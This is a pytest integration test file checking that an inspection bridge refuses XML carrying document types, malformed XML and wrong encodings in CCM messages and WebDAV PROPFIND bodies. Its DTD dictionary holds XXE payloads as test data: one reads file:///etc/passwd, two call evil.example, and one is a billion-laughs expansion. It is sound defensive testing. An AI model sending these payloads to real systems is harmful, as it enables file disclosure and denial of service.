"""XML in messages and in PROPFIND bodies (BRIDGE-INSPECT)."""

from __future__ import annotations

import zlib

import pytest

from ibcm_bridge.decisions.denial import Reason
from ibcm_bridge.lab.protocol import ccm
from tests.integration.inspection.samples import CONTENT, around, compressed, post, report
from tests.integration.lab import Lab

# XML

DTD = {
    "external-entity": '<!DOCTYPE Report [<!ENTITY x SYSTEM "file:///etc/passwd">]><Report>&x;</Report>',
    "external-dtd": '<!DOCTYPE Report SYSTEM "http://evil.example/x.dtd"><Report/>',
    "parameter-entity": '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><r/>',
    "billion-laughs": '<!DOCTYPE r [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>',
    "empty": "<!DOCTYPE Report><Report/>",
}


@pytest.mark.parametrize("case", DTD)
def test_a_document_type_is_refused_in_the_payload(lab: Lab, case: str) -> None:
    payload, length = compressed(DTD[case])
    reply = post(lab, around(payload, length))
    lab.check_refused(reply, Reason.XML_DTD, "ccm.payload.dtd", "BRIDGE-INSPECT")


@pytest.mark.parametrize("case", DTD)
def test_a_document_type_is_refused_in_a_propfind(lab: Lab, case: str) -> None:
    data = lab.request("PROPFIND", CONTENT, {"Content-Type": "text/xml"}, DTD[case].encode())
    lab.check_refused(lab.send_one(data), Reason.XML_DTD, "bodies.webdav.dtd")


def test_a_document_type_is_refused_in_the_header(lab: Lab) -> None:
    payload, length = compressed(report("x"))
    header = '<!DOCTYPE Msg [<!ENTITY x "y">]>' + ccm.message_header("MP_HinvEndpoint", length)
    reply = post(lab, ccm.raw_message(header, payload))
    lab.check_refused(reply, Reason.XML_DTD, "ccm.header.dtd")


@pytest.mark.parametrize(
    "xml", ["<Report>", "", "no xml", "<a/><b/>", "<a>&undefined;</a>", "<a>\x01</a>"]
)
def test_xml_that_is_not_well_formed_is_refused(lab: Lab, xml: str) -> None:
    payload, length = compressed(xml)
    reply = post(lab, around(payload, length))
    lab.check_refused(reply, Reason.XML, "ccm.payload.xml")


def test_another_encoding_than_utf_16_is_refused(lab: Lab) -> None:
    plain = b"\x00\xd8<\x00"  # half of a surrogate pair
    reply = post(lab, around(zlib.compress(plain), len(plain)))
    lab.check_refused(reply, Reason.ENCODING, "ccm.payload")


# PROPFIND


@pytest.mark.parametrize("media_type", ["text/xml", "application/xml", 'text/xml; charset="utf-8"'])
def test_a_propfind_is_allowed(lab: Lab, media_type: str) -> None:
    body = b'<?xml version="1.0" encoding="utf-8"?><propfind xmlns="DAV:"><allprop/></propfind>'
    fields = {"Connection": "close", "Content-Type": media_type, "Depth": "infinity"}
    reply = lab.send_one(lab.request("PROPFIND", CONTENT, fields, body))
    assert reply.status == 207
    assert lab.received().body == body
    assert lab.record()["inspected"] == [f"sent:{len(body)}"]


@pytest.mark.parametrize(
    ("body", "reason", "rule"),
    [
        (b"<propfind", Reason.XML, "bodies.webdav.xml"),
        (b"\xff\xfe<\0a\0/\0>\0", Reason.ENCODING, "bodies.webdav"),
        (b"<a>\xff</a>", Reason.ENCODING, "bodies.webdav"),
        (
            b'<?xml version="1.0" encoding="utf-7"?><a/>',
            Reason.ENCODING,
            "bodies.webdav.encoding",
        ),
    ],
)
def test_a_propfind_that_cannot_be_read_is_refused(
    lab: Lab, body: bytes, reason: Reason, rule: str
) -> None:
    data = lab.request("PROPFIND", CONTENT, {"Content-Type": "text/xml"}, body)
    lab.check_refused(lab.send_one(data), reason, rule, "BRIDGE-INSPECT")
